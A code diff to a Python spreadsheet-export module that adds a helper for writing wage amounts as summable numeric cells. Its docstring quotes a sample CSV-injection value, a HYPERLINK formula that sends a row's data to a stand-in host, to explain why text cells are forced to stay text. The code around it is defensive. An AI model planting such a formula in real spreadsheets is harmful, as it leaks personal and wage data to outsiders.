@@ -3,6 +3,7 @@
 - text is stored as text. openpyxl turns any string starting with "=" into a live formula, so an employer named
   `=HYPERLINK("http://evil.example/?"&C2,"点击")` in a county's upload would become a working link, carrying the
   row's data, in the prefecture's export;
+- money is a number shown to the fen (`money_cell`), so a column of wages can be summed;
 - a file on disk is written whole or not at all (a temporary file beside it, renamed at the end)."""
 
 from __future__ import annotations
@@ -11,6 +12,7 @@ import os
 import re
 import secrets
 from collections.abc import Iterable
+from decimal import Decimal
 from pathlib import Path
 from typing import IO, Any
 
@@ -25,6 +27,7 @@ _FORMULA_START = ("=", "+", "-", "@")
 # Characters XML does not allow: openpyxl's control characters, and the two non-characters it lets through and
 # the XML writer then refuses (a name pasted with U+FFFE failed the whole export).
 _NOT_IN_XML = re.compile(ILLEGAL_CHARACTERS_RE.pattern + "|[\ufffe\uffff]")
+MONEY_FORMAT = "#,##0.00"  # as the dashboard's export (web/dashboard.py)
 
 
 def text_cell(sheet: Any, value: str) -> Any:
@@ -34,6 +37,14 @@ def text_cell(sheet: Any, value: str) -> Any:
     cell.data_type = "s"
     if value.startswith(_FORMULA_START):
         cell.quotePrefix = True  # Excel keeps it text even after the cell is edited
+    return cell
+
+
+def money_cell(sheet: Any, value: Decimal) -> Any:
+    """A cell holding an amount in yuan as a number, shown with two decimals: text such as '4800.00' reads the
+    same but Excel cannot sum it."""
+    cell = WriteOnlyCell(sheet, value=value)
+    cell.number_format = MONEY_FORMAT
     return cell
 
 
